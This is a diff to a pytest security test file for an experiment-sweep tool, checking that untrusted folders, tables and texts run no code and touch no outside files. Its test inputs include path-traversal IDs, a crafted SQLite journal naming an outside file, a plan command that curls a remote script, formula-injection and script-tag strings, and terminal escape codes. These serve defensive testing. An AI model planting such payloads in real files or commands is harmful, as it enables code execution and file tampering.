@@ -1,8 +1,12 @@
 """Folders, texts and tables from strangers run no code and reach no file outside their folder."""
 
+import contextlib
+import gzip
+import hashlib
 import os
 import re
 import sqlite3
+import struct
 import subprocess
 import sys
 from pathlib import Path
@@ -10,11 +14,12 @@ from pathlib import Path
 import pytest
 
 from sweep.report.report import write_report
-from sweep.tracking.store import read_record, ui_command
+from sweep.tracking.store import read_record
 from sweep.trial.files import read_json, write_json
 from sweep.trial.folder import Cause, State, SweepFolder, TrialStatus
 from tests.analysis.fake_sweeps import write_fake_sweep
 from tests.faults.damage import parameters
+from tests.servers import Service, is_healthy
 
 pytestmark = pytest.mark.fault("folder, text or table from a stranger")
 IDS = ("../../victim", "/victim", "..", "victim")
@@ -104,6 +109,67 @@ def test_a_recorded_database_outside_the_folder_is_not_opened(stranger, tmp_path
     count("refused")
 
 
+@pytest.mark.slow
+def test_a_database_of_artifacts_elsewhere_is_set_aside(stranger, tmp_path, count):
+    assert sweep("report", stranger.path)[0] == 0
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    with contextlib.closing(sqlite3.connect(stranger.path / "mlflow.db")) as connection:
+        connection.execute(
+            f"UPDATE runs SET status = 'RUNNING', artifact_uri = '{victim.as_uri()}'"
+        )
+        connection.commit()
+    stranger.tracking_path.unlink()
+    code, _, stderr = sweep("report", stranger.path)
+    assert code == 0 and "artifacts of another folder" in stderr and not [*victim.iterdir()]
+    assert (stranger.path / "mlflow-old-1.db").exists()
+    count("recovered")
+
+
+def test_a_journal_that_names_a_file_is_refused(stranger, tmp_path, count):
+    assert sweep("report", stranger.path)[0] == 0
+    victim = tmp_path / "victim"
+    victim.write_text("untouched")
+    database, name = stranger.path / "mlflow.db", bytes(victim)
+    page = int.from_bytes(database.read_bytes()[16:18], "big")
+    magic = bytes.fromhex("d9d505f920a163d7")
+    header = struct.pack(">8s5I", magic, 0, 1, database.stat().st_size // page, 512, page)
+    end = struct.pack(">2I", len(name), sum(name)) + magic
+    journal = header.ljust(512, b"\0") + struct.pack(">I", (1 << 30) // page + 1) + name + end
+    database.with_name("mlflow.db-journal").write_bytes(journal)
+    stranger.tracking_path.unlink()
+    for words in (["report", stranger.path], ["report", "--from-mlflow", f"sqlite:///{database}"]):
+        code, _, stderr = (
+            sweep(*words, "--experiment", "quick") if len(words) > 2 else sweep(*words)
+        )
+        assert code == 2 and "journal" in stderr and victim.read_text() == "untouched", stderr
+    count("refused")
+
+
+def test_the_commands_of_a_plan_are_sweeps(stranger, count):
+    plan = read_json(stranger.plan_path)
+    plan["commands"] = [["curl", "-sL", "http://example.org/x.sh"]]
+    write_json(stranger.plan_path, plan)
+    code, _, stderr = sweep("report", stranger.path)
+    assert code == 2 and "must begin with sweep run" in stderr
+    count("refused")
+
+
+def test_tables_have_bounds(tmp_path, count):
+    wide, packed, long = (tmp_path / name for name in ("wide.csv", "packed.csv.gz", "long.csv"))
+    wide.write_text("," * 100_000)
+    packed.write_bytes(gzip.compress(b"stage,policy\n"))
+    columns = "stage,policy,batch_size,seed,learning_rate,state,final_valid_loss,seconds_training\n"
+    long.write_text(columns + "".join(f"report,fixed,{n},0,1,COMPLETE,1,1\n" for n in range(1, 99)))
+    for path in (wide, packed, long):
+        code, _, stderr = sweep("answer", path)
+        assert code == 2 and stderr.count("\n") == 1, stderr
+    many = tmp_path / "many.md"
+    many.write_text("a|b\n-|-\n" * 3000)  # minutes if every table contained the following ones
+    assert sweep("audit", many)[0] == 2
+    count("refused", 4)
+
+
 HOSTILE = "=cmd() <script>alert(1)</script> ![x](../../secret.png) \x1b[2J\u202e | `a`\n# heading"
 
 
@@ -112,14 +178,17 @@ def test_texts_are_escaped_on_the_page_in_the_table_and_on_the_terminal(stranger
     trial = stranger.trials()[0]
     trial.result_path.unlink()
     trial.write_status(TrialStatus(State.FAILED, Cause.ERROR, HOSTILE, 1, 1))
+    other = stranger.trials()[1]
+    other.result_path.unlink()
+    other.write_status(TrialStatus(State.FAILED, Cause.ERROR, "x\r=cmd()\nAll files", 1, 1))
     write_report(stranger.path)
     page = (stranger.path / "report.html").read_text()
     text = (stranger.path / "report.md").read_text()
     assert "<script" not in page and "U0VDUkVU" not in page and "\n# heading" not in text
     table = (stranger.path / "trials.csv").read_text()
-    assert re.search(r'[,"]=cmd', table) is None and "'=cmd" in table
+    assert re.search(r'[,"\r]=cmd', table) is None and "'=cmd" in table
     _, stdout, _ = sweep("status", stranger.path)
-    assert "=cmd" in stdout
+    assert "=cmd" in stdout and "\nAll files" not in stdout
     worker = sweep(trial.path, module="sweep.training")[1]
     words = ("plan", "quadratic", "--workload", "mod\x1b[2J:obj")
     for output in (page, text, stdout, worker, *sweep(*words)[1:]):
@@ -141,7 +210,13 @@ def test_the_current_folder_hides_no_library(tmp_path, count, executor):
         (tmp_path / f"{name}.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'a')")
     words = ("quadratic", "--batches", "4", "--budget", "400", "--device", "cpu", "--out", "s")
     assert sweep("run", *words, "--yes", *executor, folder=tmp_path)[0] == 0
-    assert ui_command(SweepFolder(tmp_path / "s"), 5000)[1] == "-P"
+    server = Service(tmp_path)
+    command = [sys.executable, "-P", "-m", "sweep", "ui", "s", "--port", str(server.port)]
+    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])}
+    try:
+        server.launch(command, lambda: is_healthy(server.uri), cwd=tmp_path, env=environment)
+    finally:
+        server.die()
     assert not (tmp_path / "ran").exists()
     count("recovered")
 
@@ -150,6 +225,16 @@ MODULE = """
 from pathlib import Path
 from sweep.workloads.quadratic import NoisyQuadratic as Own
 Path(__file__).with_name("imported").touch()
+"""
+
+
+FAILING = """
+from sweep.workloads.quadratic import NoisyQuadratic
+class Own(NoisyQuadratic):
+    def loss_sum(self, model, batch):
+        if batch[0][0] > 0:
+            raise ValueError("no answer from http://user:" + "SECRET@host/?token=SECRET")
+        return super().loss_sum(model, batch)
 """
 
 
@@ -168,6 +253,30 @@ def test_code_runs_only_after_a_notice_and_is_not_imported_to_read(tmp_path, cou
         code, *_ = sweep(command, "s", *([trial] if command == "log" else []), folder=tmp_path)
         assert code == 0
     assert not (tmp_path / "imported").exists()
+    count("recovered")
+
+
+def test_the_notice_names_the_file_that_runs(tmp_path, count):
+    (tmp_path / "own").mkdir()  # a package without __init__.py
+    (tmp_path / "own" / "mod.py").write_text(MODULE)
+    (tmp_path / "mod.py").write_text("Own = None")
+    digest = hashlib.sha256(MODULE.encode()).hexdigest()[:12]
+    words = ("quadratic", "--workload", "own.mod:Own", "--no-user-code")
+    for command in (words, words[:-1]):
+        stderr = sweep("plan", *command, "--device", "cpu", folder=tmp_path)[2]
+    assert f"mod.py, sha256 {digest}" in stderr and (tmp_path / "own" / "imported").exists()
+    count("recovered")
+
+
+@pytest.mark.slow
+def test_no_secret_in_an_exception_of_user_code_is_kept(tmp_path, count):
+    (tmp_path / "own.py").write_text(FAILING)
+    words = ("quadratic", "--workload", "own:Own", "--batches", "4", "--budget", "400")
+    code, stdout, stderr = sweep("run", *words, "--out", "s", "--yes", folder=tmp_path)
+    assert code == 1
+    written = b"".join(path.read_bytes() for path in (tmp_path / "s").rglob("*") if path.is_file())
+    assert b"http://host" in written
+    assert b"SECRET" not in written and "SECRET" not in stdout + stderr
     count("recovered")
 
 
